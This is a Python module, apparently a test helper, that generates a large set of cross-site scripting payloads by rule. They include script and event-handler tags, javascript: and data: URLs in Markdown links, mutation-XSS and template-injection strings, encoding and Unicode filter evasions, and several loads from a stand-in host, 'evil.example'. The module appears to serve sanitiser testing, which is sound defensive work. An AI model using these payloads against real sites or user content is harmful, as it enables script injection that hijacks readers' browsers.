"""Texts that try to run something in the browser of whoever reads them, made by rule.

Each calls `zq()`, reads `[[zq]]` templates or leads to an address that runs; `PAYLOADS` holds all,
`packs(most)` as many texts of at most so many characters as it takes to hold each of them once.
"""

import itertools
from collections.abc import Iterator

from cases.text import check_text

CALL = "zq()"
WEIGHED = "zqzq"  # what a template would make of the texts of `templates`

# What ends the place in which a text was put, so that what follows is read as markup.
ENDS = ["", '">', "'>", "`>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>",
        "</noscript>", "</select>", "</template>"]  # fmt: skip
# Elements that run something by themselves, or as soon as somebody touches them.
RUNNING = [
    f"<script>{CALL}</script>", f"<SCRIPT/x>{CALL}</SCRIPT\n>", f"<script\n>{CALL}</script >",
    "<script src=data:,zq()></script>", "<script src=//evil.example/zq.js></script>",
    f"<img src=x onerror={CALL}>", f"<img/src=x/onerror={CALL}//", f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script>", f"<svg><script href=data:,{CALL} />",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={CALL} attributeName=x>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=9>zq</text></a>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='z' onload='{CALL}'/>#z\">",
    f"<math href=javascript:{CALL}>zq</math>", f"<body onload={CALL}>", f"<body onpageshow={CALL}>",
    f"<details open ontoggle={CALL}>", f"<video src=x onerror={CALL}>",
    f"<video><source onerror={CALL}>", f"<audio src=x onerror={CALL}>",
    f"<input autofocus onfocus={CALL}>", f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>", f"<zq-x tabindex=1 autofocus onfocus={CALL}>",
    f"<marquee onstart={CALL}>", f"<div onpointerenter={CALL}>zq</div>",
    f"<p style=animation:x onanimationstart={CALL}>", f"<iframe src=javascript:{CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>", f"<iframe onload={CALL}>",
    f"<object data=javascript:{CALL}>", f"<object data=x onerror={CALL}>",
    f"<embed src=javascript:{CALL}>", f"<form action=javascript:{CALL}><button>zq",
    f"<button formaction=javascript:{CALL}>zq", f"<isindex action=javascript:{CALL} type=submit>",
    f"<a href=javascript:{CALL}>zq</a>", f"<area href=javascript:{CALL}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/zq.css>", "<link rel=prefetch href=//evil.example/>",
    f"<style onload={CALL}></style>", f"<link rel=stylesheet href=x onerror={CALL}>",
    f"<dialog open oncancel={CALL}>zq</dialog>", f"<keygen autofocus onfocus={CALL}>",
    f"<table background=javascript:{CALL}>", f"<td background=javascript:{CALL}>",
    f"<button popovertarget=z>zq</button><div popover id=z onbeforetoggle={CALL}>zq</div>",
]  # fmt: skip
MANNERS = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
           "\x01javascript:", "javascript\t:", "javascript&colon;", "&#106;avascript:",
           "&#x6a;avascript:", "&#0000106avascript:", "java&Tab;script:", "java&NewLine;script:",
           "javascript%3A", "javascript://evil.example/%0a", "javascript:/*--></script>*/",
           "vbscript:", "livescript:", "data:text/html,<script>parent.", "data:image/svg+xml,",
           "data:text/html;base64,PHNjcmlwdD56cSgpPC9zY3JpcHQ+#", "feed:javascript:",
           "view-source:javascript:", "blob:javascript:", "\ufeffjavascript:",
           "jav\u0131ascript:", "\uff4aavascript:", "//evil.example/", "/\\evil.example/",
           "\\\\evil.example/", "https:javascript:", "http://javascript:"]  # fmt: skip
MARKDOWN = ["[zq]({})", "[zq](<{}>)", "![zq]({})", "<{}>", "[zq][1]\n\n[1]: {}", "{}",
            "zq[^1]\n\n[^1]: [zq]({})", "[![zq]({0})]({0})", "[[{}]]", "[[vendor/x|{}]]",
            "`[zq]({})`", "| [zq]({}) |\n|--|\n| x |", "<a href={}>zq</a>"]  # fmt: skip
QUOTES = ['"', "'", "`", "", '\\"', "&quot;", "&#34;", "\u201d", '"\x0c', '"/']
HANDLERS = ["onmouseover", "onfocus autofocus x", "oNcLiCk", "onerror", "style=x onpointerover"]
FOREIGN = [("svg", "desc"), ("svg", "title"), ("svg", "foreignObject"), ("math", "mtext"),
           ("math", "mi"), ("math", "annotation-xml encoding=text/html")]  # fmt: skip
RAW = ["style", "title", "textarea", "xmp", "noscript", "noembed", "noframes", "iframe", "select"]


def elements() -> Iterator[str]:
    """Elements that run, alone and after what ends the place they are in."""
    yield from RUNNING
    for number, end in enumerate(ENDS[1:]):
        for step in range(6):
            yield end + RUNNING[(number * 7 + step * 11) % len(RUNNING)]


def attributes() -> Iterator[str]:
    """What leaves the value of an attribute to add another."""
    for quote, handler in itertools.product(QUOTES, HANDLERS):
        name, _space, more = handler.partition(" ")
        yield f"zq{quote} {more} {name}={CALL} x={quote}"
    for space in ("/", "\n", "\t", "\x0c", "\r", "\u00a0", "\x00"):
        yield f'zq"{space}onmouseover{space}={space}"{CALL}'


def addresses() -> Iterator[str]:
    """Addresses that run, in every way in which Markdown makes a link of one."""
    for number, manner in enumerate(MANNERS):
        for step in range(4):
            frame = MARKDOWN[(number + step * 3) % len(MARKDOWN)]
            yield frame.format(manner + CALL)
    for space in (" ", '"', "'", "\n"):
        yield f"[zq](https://example.org/{space}onmouseover={CALL})"
        yield f'[zq](https://example.org/ "zq{space}onmouseover={CALL} x=")'
        yield f"<https://example.org/{space}onmouseover={CALL}>"


def markdown() -> Iterator[str]:
    """Signs of Markdown around and inside elements that run."""
    run = RUNNING[0]
    for frame in ("`{}`", "```\n{}\n```", "```{}\nzq\n```", "    {}", "# {}", "> {}", "- {}",
                  "**{}**", "zq\n{{: {} }}", "[{0}]: {0}", "[^{0}]: {0}\n\nzq[^{0}]",
                  "|{}|\n|--|\n|{}|", "![{0}]({0})", "[{0}]({0})", "[[{0}|{0}]]", "{}\n===", "\\{}",
                  "*[zq]: {}\n\nzq", "[TOC]\n\n# {}", "~~~\n</code></pre>{}\n~~~"):  # fmt: skip
        yield frame.replace("{0}", run).replace("{}", run).replace("{{", "{").replace("}}", "}")
    yield f"\x02wzxhzdk:0\x03{run}"
    yield f"\x02klzzwxh:0000\x03`{run}`"


def comments() -> Iterator[str]:
    """Comments, declarations and instructions that end too early or too late."""
    for start in ("<!--", "<!-->", "<!--->", "<!--!", "<!-- --!>", "<![CDATA[", "<?xml ",
                  "<!DOCTYPE ", "</ ", "<% ", "<!--[if true]>", "<!ENTITY z '"):  # fmt: skip
        yield f"{start}<img src=x onerror={CALL}>-->"
        yield f"{start}<img title='-->{RUNNING[5]}'>"


def mutations() -> Iterator[str]:
    """What means something else once it was read, written and read again."""
    for (outer, inner), raw in itertools.product(FOREIGN, RAW):
        yield f"<{outer}><{inner}><{raw}><a id='</{raw}><img src=x onerror={CALL}>'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{RUNNING[5]}'>"
    yield f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>"
    yield f"<b title='&lt;img src=x onerror={CALL}&gt;'><listing>&lt;img src=x onerror={CALL}&gt;"


def templates() -> Iterator[str]:
    """What a template would weigh: together `zqzq`."""
    for opening, closing in (("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("[[", "]]"),
                             ("{%", "%}"), ("{{{", "}}}"), ("@{", "}"), ("{{ ", "|safe }}"),
                             ("%(", ")s"), ("{0.", "}")):  # fmt: skip
        yield f"{opening}'zq'+'zq'{closing}"
        yield f"{opening}'zq'|add:'zq'{closing}"
        yield f"{opening}constructor.constructor('{CALL}')(){closing}"


def scripts() -> Iterator[str]:
    """What ends a text of JSON or of a script."""
    for end in ("';", '";', "\\';", '\\";', "`;", "${", "\u2028", "\u2029", "*/", "\\u0027;", "]}",
                "'-", "</script>;", "\\u003c/script\\u003e", "&quot;;", "\\x27;"):  # fmt: skip
        yield f"{end}{CALL}//"
        yield f"{end}{CALL}</script>{RUNNING[0]}<!--"


def letters() -> Iterator[str]:
    """Signs that look like others, are not seen, or become others."""
    signs = [("\uff1c", "\uff1e"), ("\u2039", "\u203a"), ("\ufe64", "\ufe65"), ("\u02c2", "\u02c3"),
             ("\u00ab", "\u00bb"), ("%3C", "%3E"), ("&lt;", "&gt;"), ("&#60;", "&#62;"),
             ("&amp;lt;", "&amp;gt;"), ("&LT", "&GT"), ("\\x3c", "\\x3e"), ("+ADw-", "+AD4-"),
             ("<\u0338", ">\u0338"), ("\u202e<", ">\u202e")]  # fmt: skip
    for less, more in signs:
        yield f"{less}script{more}{CALL}{less}/script{more}"
        yield f"{less}img src=x onerror={CALL}{more}"
    for sign in (
        "\x00",
        "\u00ad",
        "\u200b",
        "\ufeff",
        "\u0301",
        "\u017f",
        "\x0b",
        "\x85",
        "\ud800",
        "\u202d",
    ):
        yield f"<{sign}script>{CALL}</script>"
        yield f"<scr{sign}ipt>{CALL}</scr{sign}ipt>"
        yield f"<img src=x on{sign}error={CALL}>"


def styles() -> Iterator[str]:
    """Styles, as elements and as attributes."""
    for rule in (f"background:url(javascript:{CALL})", "background:url(//evil.example/zq)",
                 f"width:expression({CALL})", f"behavior:url(javascript:{CALL})",
                 "position:fixed;inset:0", "@import '//evil.example/zq.css'"):  # fmt: skip
        yield f"<style>*{{{rule}}}</style>"
        yield f"<p style='{rule}'>zq</p>"
        yield f'zq" style="{rule}'
        yield f"}}*{{{rule}}}"


SORTS = [elements, attributes, addresses, markdown, comments, mutations, templates, scripts,
         letters, styles]  # fmt: skip
PAYLOADS = list(dict.fromkeys(text for sort in SORTS for text in sort()))


def visible() -> list[str]:
    """Those without characters that every form of the register refuses."""
    return [text for text in PAYLOADS if _is_visible(text)]


def packs(most: int, texts: list[str], gap: str = " ") -> list[str]:
    """Texts of at most `most` characters that hold each of those that fit, once."""
    found = [""]
    for text in texts:
        if len(text) > most:
            continue
        if found[-1] and len(found[-1]) + len(gap) + len(text) > most:
            found.append("")
        found[-1] += gap + text if found[-1] else text
    return found


def _is_visible(text: str) -> bool:
    try:
        check_text(text)
    except ValueError:
        return False
    return True
